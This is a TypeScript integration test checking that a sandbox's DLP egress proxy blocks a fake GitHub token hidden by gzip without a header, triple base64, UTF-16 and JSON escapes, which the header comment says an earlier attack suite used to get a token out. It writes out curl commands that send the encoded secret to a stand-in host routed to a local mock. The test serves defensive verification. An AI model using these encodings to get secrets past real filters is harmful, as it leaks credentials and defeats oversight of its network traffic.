// DLP through the real proxy, from inside a real bottle: a token hidden the
// ways the attack suite got one out (a gzip body without Content-Encoding,
// base64 three times over, UTF-16 text, a JSON `\u` escape) is refused and
// never reaches the upstream; the same encodings of clean text pass. The
// upstream is a local mock reached through a route `upstream`: no request
// leaves this machine.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dockerAvailable } from '../helpers/docker.ts';
import { agentName, auditEvents, bottle, project, TEST_IMAGE, type Project } from '../helpers/cli.ts';

/** Built at run time, never written out whole. */
const token = () => ['gh', 'p_', 'EncodedT0kenForDlpLayers', 'Zz9Yy8Xx7Ww6'].join('');
const b64 = (b: Buffer | string) => Buffer.from(b).toString('base64');

describe.skipIf(!dockerAvailable)('DLP decoding layers through the proxy', () => {
  let upstream: http.Server;
  const seen: string[] = [];
  let p: Project;
  let out = new Map<string, string>();
  let audit: Array<Record<string, unknown>> = [];

  beforeAll(async () => {
    upstream = http.createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        seen.push(req.url ?? '');
        res.end('ok');
      });
    });
    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
    const port = (upstream.address() as AddressInfo).port;
    p = project('bottle-dlp-enc-');
    const agent = agentName('dlpenc');
    p.config({
      image: TEST_IMAGE,
      agents: { [agent]: { bottle: 'dev' } },
      bottles: { dev: { workspace: 'none', egress: { routes: [{ host: 'other.example.test', upstream: `http://127.0.0.1:${port}` }] } } },
    });
    const secret = `machine github.com password ${token()}\n`;
    const clean = 'just some notes, nothing secret in here\n'.repeat(20);
    // Each body is written to a file in the guest from base64 made here, then sent as it is (--data-binary).
    const send = (label: string, body: Buffer | string, extra = '') =>
      `echo '${b64(body)}' | base64 -d > /tmp/${label} && printf '%s %s\\n' '${label}' "$(curl -s -o /dev/null -m 15 -w '%{http_code}' ${extra} --data-binary @/tmp/${label} https://other.example.test/${label} 2>/dev/null)"`;
    const utf16 = (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]);
    const script = [
      send('gzip-no-header', gzipSync(secret), "-H 'content-type: application/octet-stream'"),
      send('base64-x3', b64(b64(b64(secret)))),
      send('utf16', utf16(secret), "-H 'content-type: text/plain; charset=utf-16'"),
      send('json-escape', JSON.stringify({ note: secret }).replace('gh', '\\u0067h'), "-H 'content-type: application/json'"),
      send('base64-gzip-json', JSON.stringify({ file: b64(gzipSync(secret)) }), "-H 'content-type: application/json'"),
      send('clean-gzip', gzipSync(clean)),
      send('clean-base64-x3', b64(b64(b64(clean)))),
      send('clean-utf16', utf16(clean)),
    ].join('\n');
    const r = await bottle(p, ['run', '--', 'bash', '-c', script]);
    expect(r.exitCode, r.stderr).toBe(0);
    out = new Map(r.stdout.split('\n').filter(Boolean).map((l) => [l.slice(0, l.indexOf(' ')), l.slice(l.indexOf(' ') + 1)]));
    audit = auditEvents(p);
  }, 300_000);

  afterAll(() => {
    upstream?.close();
    p?.cleanup();
  });

  it('refuses a token in a gzip body sent without Content-Encoding, base64 three times, UTF-16 text and a JSON escape', () => {
    for (const k of ['gzip-no-header', 'base64-x3', 'utf16', 'json-escape', 'base64-gzip-json']) expect(out.get(k), k).toBe('403');
    for (const k of ['gzip-no-header', 'base64-x3', 'utf16', 'json-escape', 'base64-gzip-json']) expect(seen, k).not.toContain(`/${k}`);
  });

  it('names the rule and the layer in the audit trail, never the token', () => {
    const dlp = audit.filter((e) => e.type === 'egress.dlp');
    expect(dlp.length).toBeGreaterThanOrEqual(5);
    expect(dlp.every((e) => e.rule === 'github-token')).toBe(true);
    // The reason names where and the layer: `body (base64+gzip)`.
    const reasons = dlp.map((e) => String(e.reason ?? ''));
    for (const l of ['gzip', 'base64+base64+base64', 'utf16', 'escape', 'base64+gzip']) expect(reasons, l).toContain(`body (${l})`);
    expect(JSON.stringify(audit)).not.toContain(token().slice(4));
  });

  it('lets the same encodings of clean text through', () => {
    for (const k of ['clean-gzip', 'clean-base64-x3', 'clean-utf16']) {
      expect(out.get(k), k).toBe('200');
      expect(seen, k).toContain(`/${k}`);
    }
  });
});
